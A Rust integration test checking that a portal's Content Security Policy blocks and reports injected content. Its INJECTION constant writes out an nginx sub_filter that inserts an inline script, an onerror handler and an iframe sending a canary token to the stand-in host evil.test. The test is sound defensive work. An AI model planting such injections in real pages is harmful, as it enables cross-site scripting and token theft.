//! The second line of defence: what gets into the page all the same is blocked by the browser and reported.

use serde_json::Value;

use crate::support::browser::BrowserOptions;
use crate::support::pages::{Page, Pages};
use crate::support::site::{Site, SiteOptions};
use crate::support::tls_front::TlsFront;
use crate::support::wait::{loopback, poll};

use super::{SOON, mailed, words};

/// A script, a handler and a frame that an attacker got into the HTML; the headers are the page's own.
const INJECTION: &str = r#"
proxy_set_header Accept-Encoding "";
sub_filter '<main id="main">' '<script>document.title = "ran"</script><img alt="" src="data:," onerror="document.title = 1"><iframe id="foreign" src="https://evil.test/x?token=canary-foreign"></iframe><main id="main">';
"#;

#[tokio::test]
async fn an_inline_script_a_handler_and_a_foreign_frame_are_blocked_and_reported() {
    let pages = Pages::start([("/x", Page::html("<!doctype html><title>foreign</title>"))]).await;
    let evil = TlsFront::start(loopback(pages.port())).await;
    let options = SiteOptions {
        directives: INJECTION,
        ..SiteOptions::default()
    };
    let site = Site::start(options).await;
    let browser = site
        .browser(BrowserOptions {
            hosts: vec![("evil.test", evil.port())],
            ..BrowserOptions::default()
        })
        .await;
    site.sign_in(&browser, "bruno").await;
    let link = mailed(&site, "Bruno Muster: your offer is waiting").await;
    browser.goto(&site.secure_page(&format!("?crylk={link}"))).await;

    browser.wait_until("window.__violations.length >= 3", SOON).await;
    let mut found: Vec<_> = browser
        .violations()
        .await
        .into_iter()
        .map(|violation| (violation.directive, violation.blocked, violation.disposition))
        .collect();
    found.sort();
    let expected = [
        ("frame-src", "https://evil.test"),
        ("script-src-attr", "inline"),
        ("script-src-elem", "inline"),
    ]
    .map(|(directive, blocked)| (directive.to_owned(), blocked.to_owned(), "enforce".to_owned()));
    for ((directive, blocked, disposition), expected) in found.iter().zip(&expected) {
        assert_eq!((directive, disposition), (&expected.0, &expected.2));
        assert!(blocked.starts_with(&expected.1), "{found:?}");
    }
    assert_eq!(found.len(), expected.len(), "{found:?}");
    assert_eq!(words(&browser, "document.title").await, "Your subscription");
    assert_eq!(
        pages.requests(),
        Vec::<String>::new(),
        "the foreign page was asked for"
    );
    let framed = browser.eval("document.querySelector('main iframe').src").await;
    assert_eq!(
        framed,
        Value::String(link.clone()),
        "the page's own frame is still there"
    );

    let counted = poll(SOON, async || {
        (site.metric("portal_csp_reports_total").await > 2.5).then_some(())
    });
    assert!(
        counted.await.is_some(),
        "the reports did not arrive:\n{}",
        site.metrics().await
    );
    let log = site.log();
    for part in [
        "frame-src",
        "script-src-elem",
        "script-src-attr",
        "https://evil.test",
    ] {
        assert!(log.contains(part), "no {part} in:\n{log}");
    }
    let token = link.rsplit('/').next().expect("the token of the link");
    for secret in ["canary-foreign", "crylk=", token] {
        assert!(!log.contains(secret), "{secret} in:\n{log}");
    }
}
